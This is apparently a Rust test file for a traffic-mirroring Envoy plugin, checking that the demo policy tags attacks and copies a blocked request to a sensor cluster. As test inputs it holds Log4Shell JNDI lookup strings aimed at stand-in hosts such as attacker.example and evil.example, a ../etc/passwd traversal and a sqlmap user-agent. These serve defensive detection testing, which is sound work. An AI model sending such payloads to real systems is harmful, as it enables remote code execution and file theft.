//! The mirror section of the `make run` demo's policy (`envoy-config/envoy.yaml`, one
//! `meshsight` plugin running the whole document in one pass): it behaves as the demo's curl
//! lines and the mirror docs say, names the target that the demo route matches on, and copies a
//! blocked attack to the sensor cluster.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

mod demo;

use meshsight_policy::decision::{MirrorDecision, MirrorReason, MIRROR_DECISION_PROPERTY};
use proxy_wasm_test_host::{Host, HttpCall};

fn decision(host: &Host, id: u32) -> MirrorDecision {
    serde_json::from_slice(
        &host
            .stream_property(id, &[MIRROR_DECISION_PROPERTY])
            .unwrap(),
    )
    .unwrap()
}

fn decision_header(host: &Host, id: u32) -> Option<String> {
    host.request_header_map(id)
        .into_iter()
        .find(|(n, _)| n == "x-meshsight-mirror")
        .map(|(_, v)| v)
}

fn header<'a>(call: &'a HttpCall, name: &str) -> Option<&'a str> {
    call.headers
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

#[test]
fn demo_policy_behaves_as_the_readme_says() {
    let yaml = demo::demo_yaml();
    let mut host = demo::start_demo();
    let mut run = |path: &str, extra: &[(&str, &str)]| {
        let id = demo::get(&mut host, "GET", path, extra);
        assert_eq!(host.local_response(id), None, "{path} is allowed");
        let found = (decision(&host, id), decision_header(&host, id));
        demo::finish(&mut host, id);
        found
    };
    let (d, h) = run("/api/orders/42", &[]);
    assert_eq!(
        (d.reason, d.rule.as_deref()),
        (MirrorReason::Rule, Some("orders"))
    );
    // The demo route mirrors on exactly this header value.
    let value = h.expect("decision header");
    assert!(
        yaml.contains(&format!("string_match: {{ exact: {value} }}")),
        "envoy.yaml's mirror route must match x-meshsight-mirror: {value}"
    );
    let (d, _) = run(
        "/api/items",
        &[("user-agent", "${jndi:ldap://attacker.example/a}")],
    );
    assert_eq!(d.signatures, vec!["log4shell"]);
    let (d, h) = run(
        "/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        &[],
    );
    assert_eq!(
        (d.reason, d.signatures, h.as_deref()),
        (
            MirrorReason::Signature,
            vec!["log4shell".to_string()],
            Some("sensor")
        ),
        "the banner's signature line"
    );
    let (d, _) = run("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D", &[]);
    assert_eq!(d.signatures, vec!["log4shell"]);
    let (d, _) = run("/api/items?file=..%2F..%2Fetc%2Fpasswd", &[]);
    assert_eq!(d.signatures, vec!["path_traversal"]);
    let (d, _) = run("/api/items", &[("user-agent", "sqlmap/1.8#stable")]);
    assert_eq!(d.signatures, vec!["sqlmap"]);
    let (d, h) = run("/healthz", &[("x-meshsight-mirror", "sensor")]);
    assert_eq!(
        (d.mirrored, d.rule.as_deref(), h),
        (false, Some("health"), None)
    );
    let (d, _) = run("/api/items", &[("x-request-id", "demo-1")]);
    assert_eq!(d.rule.as_deref(), Some("sample-rest"));
}

#[test]
fn the_demos_blocked_attack_still_reaches_the_sensor() {
    let mut host = demo::start_demo();
    let path = "/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
    let id = demo::get(&mut host, "GET", path, &[("x-request-id", "demo-blocked")]);
    assert_eq!(host.local_response(id).map(|r| r.status), Some(403));
    let d = decision(&host, id);
    assert!(d.mirrored, "copied although denied: {d:?}");
    assert_eq!(
        (d.reason, d.signatures),
        (MirrorReason::Signature, vec!["log4shell".to_string()])
    );
    demo::finish(&mut host, id);
    host.tick();
    // A denied request reaches no route: the copy goes by HTTP call to the header target's
    // cluster, the demo's `sensor` cluster.
    let copies: Vec<HttpCall> = host
        .http_calls()
        .into_iter()
        .filter(|c| c.upstream == "sensor")
        .collect();
    assert_eq!(copies.len(), 1, "{copies:?}");
    assert_eq!(header(&copies[0], ":path"), Some(path));
    assert_eq!(
        header(&copies[0], "x-meshsight-mirror-reason"),
        Some("signature")
    );
    assert_eq!(
        header(&copies[0], "x-meshsight-mirror-signatures"),
        Some("log4shell")
    );
    // The demo says so explicitly (it is also the default).
    assert_eq!(demo::demo_document()["mirror"]["copy_denied"], true);
}
